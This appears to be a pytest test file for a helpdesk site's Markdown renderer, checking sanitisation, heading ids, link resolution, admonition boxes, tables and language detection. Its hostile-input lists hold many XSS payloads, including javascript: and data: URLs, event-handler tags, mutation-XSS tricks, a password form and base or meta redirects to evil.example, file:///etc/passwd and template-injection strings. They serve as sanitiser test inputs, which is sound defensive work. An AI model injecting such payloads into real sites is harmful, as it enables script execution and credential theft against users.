"""Documents as HTML: what stays of Markdown, and that nothing in it can act."""

import random
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from helpdesk.knowledge.slugs import slug_of
from helpdesk.site import markdown, markdown_parser
from tests.support.rules import for_each

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript&#58;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
    "page:../../../../v1/logs",
    "x:javascript:alert(1)",
    "blob:https://example.com/1",
    "jar:https://example.com!/",
    "feed:javascript:alert(1)",
    "%6aavascript:alert(1)",
]
FRAMES = [
    "[click]({})",
    "[click](<{}>)",
    '![image]({} "title")',
    "<{}>",
    "[click][r]\n\n[r]: {}",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}">',
]
TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://a.example/x onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div class=site-header id=content>x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</div></main><script>alert(1)</script>",
    "<p tabindex=5 contenteditable>x</p>",
    "<a target=_blank href=https://a.example ping=https://evil.example>x</a>",
    '```html"><script>alert(1)</script>\ncode\n```',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    ":::tip <script>alert(1)</script>\nx\n:::",
    ":::tip\n</div></div></div><script>alert(1)</script>",
    "# <script>alert(1)</script>\n\ntext",
    '## x" onclick="alert(1)\n\ntext',
    "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
]
HOSTILE = [
    *(frame.format(address) for frame in FRAMES for address in ADDRESSES),
    *TAGS,
    *(f"> - {tag}\n> - `x`" for tag in TAGS),
]
ALLOWED = markdown._TAGS
ATTRIBUTES = {
    *("title", "lang", "dir", "href", "src", "alt", "width", "height", "loading", "start", "value", "align"),
    *("colspan", "rowspan", "scope", "open", "id", "tabindex", "class", "rel"),
}


def acts(html: str) -> list[str]:
    """Return what in a piece of HTML could run, load, embed, submit or look like the page around it."""
    found: list[str] = []
    for node in LexborHTMLParser(f"<!doctype html><body><article>{html}</article></body>").css("article *"):
        if node.tag not in ALLOWED:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            text = value or ""
            if name not in ATTRIBUTES:
                found.append(f"{node.tag} {name}")
            if name == "href" and not re.match(r"(https?://|mailto:|page:|/site/acme/x$|#|%|[^:/]*$)", text):
                found.append(f"href {text}")
            if name == "src" and not text.startswith("https://"):
                found.append(f"src {text}")
            if name == "id" and text != slug_of(text):
                found.append(f"id {text}")
            if name == "class" and re.search("site-|skip|toc|folders", text):
                found.append(f"class {text}")
    return found


def test_there_are_more_than_200_hostile_documents() -> None:
    assert len(set(HOSTILE)) > 200


@for_each("text", HOSTILE, ids=[str(number) for number in range(len(HOSTILE))])
def test_a_hostile_document_executes_nothing(text: str) -> None:
    html = markdown.resolved(markdown.render("Title", text, path="a/b.md").html, lambda _: "/site/acme/x")

    assert acts(html) == []
    assert html.count("</article") == 0


PIECES = [*HOSTILE, "<", ">", '"', "'", "`", "\n", "&", "<a ", "<!--", "-->", "]]>"]


@given(st.lists(st.sampled_from(PIECES), max_size=6))
def test_no_mixture_of_hostile_pieces_acts(pieces: list[str]) -> None:
    assert acts(markdown.render("Title", "".join(pieces)).html) == []


@given(st.text(max_size=300))
def test_any_text_is_rendered(text: str) -> None:
    assert acts(markdown.render("Title", text).html) == []


def test_headings_begin_at_the_second_level_without_gaps_and_have_ids_of_their_own() -> None:
    made = markdown.render("Title", "# Title\n\n### A\n\n##### A\n\n# B\n\n## C\n\ntext")

    levels = re.findall(r'<(h\d) id="([^"]+)"', made.html)
    assert levels == [("h2", "a"), ("h3", "a-2"), ("h2", "b"), ("h3", "c")]
    assert [(each.level, each.text) for each in made.headings] == [(2, "A"), (3, "A"), (2, "B"), (3, "C")]


def test_what_is_a_part_of_a_page_has_no_ids() -> None:
    text = '## Standing\n\n## Write {#write}\n\n<h2 id="thread">By hand</h2>'

    assert markdown.render("", text, is_part=True).html.replace("\n", "") == (
        "<h2>Standing</h2><h2>Write</h2><h2>By hand</h2>"
    )


def test_what_follows_a_deep_list_is_there() -> None:
    deep = "\n".join("  " * depth + f"- level {depth}" for depth in range(25))

    assert markdown.render("Title", f"{deep}\n\nThe end.").html.rstrip().endswith("<p>The end.</p>")


def test_a_first_heading_that_is_not_the_title_stays() -> None:
    assert "<h2" in markdown.render("Title", "# Another\n\ntext").html


def test_code_is_coloured_by_classes_and_unknown_languages_stay_plain() -> None:
    known = markdown.render("T", "```python title=x\nprint(1 < 2)\n```").html
    unknown = markdown.render("T", "```nonsense\n<b>\n```").html

    assert '<span class="nb">print</span>' in known
    assert '<pre class="code" tabindex="0"><code>&lt;b&gt;\n</code></pre>' in unknown
    assert "style=" not in known


def test_a_box_of_a_documentation_tool_is_a_box() -> None:
    html = markdown.render("T", ":::tip Good to know\n\nUse *this*.\n\n:::\n\nAfter.").html

    box = LexborHTMLParser(html).css_first("div.admonition.tip")
    assert box is not None
    assert [each.text() for each in box.css("p")] == ["Good to know", "Use this."]
    assert "<p>After.</p>" in html


def test_a_box_in_code_stays_code() -> None:
    assert ":::tip" in markdown.render("T", "```\n:::tip\n```\n\n:::\n").html


@pytest.mark.parametrize(
    ("href", "target"),
    [
        ("b.md", "page:b.md"),
        ("../c.md#x", "page:../c.md#x"),
        ("/d/e.md", "page:/d/e.md"),
        ("my%20file.md", "page:my%20file.md"),
        ("#here", "#here"),
        ("https://a.example/x", "https://a.example/x"),
    ],
)
@pytest.mark.parametrize("form", ["[x]({})", '<a href="{}">x</a>', '<div><a href="{}">x</a></div>'])
def test_a_relative_link_is_kept_until_its_page_is_known(form: str, href: str, target: str) -> None:
    html = markdown.render("T", form.format(href), path="guides/a.md").html

    assert f'href="{target}"' in html


@pytest.mark.parametrize("href", ["a.md", "/a.md", "?q=1", "//a.example/x", "", "page:a.md"])
def test_a_link_that_leads_nowhere_has_no_address(href: str) -> None:
    assert "href" not in markdown.render("", f"[x]({href})").html


def test_a_relative_link_of_a_page_elsewhere_leads_beside_it() -> None:
    html = markdown.render("T", "[x](b)\n\n![y](i.png)", url="https://docs.example/a/").html

    assert 'href="https://docs.example/a/b"' in html
    assert 'src="https://docs.example/a/i.png"' in html


def test_an_image_without_https_shows_its_words() -> None:
    assert "src=" not in markdown.render("T", "![A cat](http://a.example/c.png)").html


def test_front_matter_is_not_shown() -> None:
    assert markdown.render("T", "---\ntitle: x\n---\n\nHello").html.strip() == "<p>Hello</p>"


def test_the_description_is_the_first_paragraph_cut_at_a_word() -> None:
    words = " ".join(random.Random(1).choice(["alpha", "beta"]) for _ in range(60))

    description = markdown.render("T", f"# T\n\n![](https://a.example/i.png)\n\n{words}").description

    assert len(description) <= 160
    assert description.endswith("…")
    assert words.startswith(description[:-1])


def test_an_id_that_a_heading_names_is_its_own_and_is_not_shown() -> None:
    made = markdown.render(
        "T", "## Metrics\n\n## What is measured {#metrics}\n\n## Content\n\n### `x` {#in.x_2}"
    )

    assert re.findall(r'<h\d id="([^"]+)">(.*?)</h', made.html) == [
        ("metrics-2", "Metrics"),
        ("metrics", "What is measured"),
        ("content-2", "Content"),  # the page around it has an element of that id
        ("in.x_2", "<code>x</code>"),
    ]
    assert [each.text for each in made.headings] == ["Metrics", "What is measured", "Content", "x"]


def test_mdx_is_shown_as_markdown_and_code_stays() -> None:
    text = (
        "import Tabs from '@theme/Tabs'\n# T\n\n<Tabs values={[{a: [{b: 1}]}]}>\n\n"
        "Inside <Badge>kept</Badge>\n\n</Tabs>\n\n"
        "<img alt=\"A cat\" src={useBaseUrl('https://a.example/c.png')} />\n\n`<Tag>`\n\n```js\nimport x from 'y'\n```"
    )
    found = LexborHTMLParser(markdown.render("T", text).html)

    assert [each.text() for each in found.css("p")] == ["Inside kept", "<Tag>"]
    assert [each.attributes["src"] for each in found.css("img")] == ["https://a.example/c.png"]
    assert [each.text() for each in found.css("pre")] == ["import x from 'y'\n"]


def test_a_sentence_that_begins_with_import_is_no_module() -> None:
    assert (
        "<p>import the keys\nexport a list</p>" in markdown.render("T", "import the keys\nexport a list").html
    )


@pytest.mark.parametrize(
    ("text", "kind", "title"),
    [
        (":::important\nx\n:::", "important", "Important"),
        ("> [!WARNING]\n> x", "warning", "Warning"),
        ("- a\n\n  :::note[Own words]\n  x\n  :::", "note", "Own words"),
        (
            "Der Schlüssel ist im Menü und das ist der, den wir für Sie haben.\n\n:::danger\nx\n:::",
            "danger",
            "Gefahr",
        ),
    ],
)
def test_a_box_has_its_kind_and_a_title_in_the_documents_language(text: str, kind: str, title: str) -> None:
    box = LexborHTMLParser(markdown.render("T", text).html).css_first(f"div.admonition.{kind}")

    assert box is not None
    assert [each.text() for each in box.css("p")] == [title, "x"]


@pytest.mark.parametrize(
    "text", ["| a |\n|---|\n| b |", '<TABLE class="x"><tr><th>a</th></tr><tr><td>b</td></tr></TABLE >']
)
def test_a_table_scrolls_by_itself(text: str) -> None:
    found = LexborHTMLParser(markdown.render("T", text).html)

    tables = found.css("div.scroll[tabindex='0'] > table")
    assert ["".join(each.text().split()) for each in tables] == ["ab"]


def test_tasks_and_the_alignment_of_cells_are_shown() -> None:
    html = markdown.render("T", "- [ ] one\n- [x] two\n\n| n |\n|--:|\n| 1 |").html

    assert "<li>☐ one</li>\n<li>☑ two</li>" in html
    assert '<td align="right">1</td>' in html


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("You can find the keys in the menu, and this is where you make a new one.", "en"),
        (
            "Im Menü finden Sie die Schlüssel. Sie können dort einen neuen anlegen und den alten löschen.",
            "de",
        ),
        ("Vous pouvez retourner une plante dans les trente jours. Collez-la sur le colis.", "fr"),
        ("يمكنك إعادة طلبك خلال ثلاثين يومًا", "ar"),
        ("אפשר להחזיר צמח", "he"),
        ("返品は三十日以内にできます。", "ja"),
        ("Рыба и это всё", "ru"),
        ("Du kan returnera en växt inom trettio dagar. Skriv ut etiketten.", None),
        ("```\nthe and this is where you make it\n```", None),
        ("", None),
    ],
)
def test_the_language_of_a_document_is_known_where_it_is_clear(text: str, language: str | None) -> None:
    assert markdown.render("T", text).language == language


@pytest.mark.parametrize("language", sorted(markdown_parser.LANGUAGES))
def test_every_language_that_is_named_has_a_lexer(language: str) -> None:
    assert "<p>After</p>" in markdown.render("Title", f"```{language}\na = 1\n```\n\nAfter").html
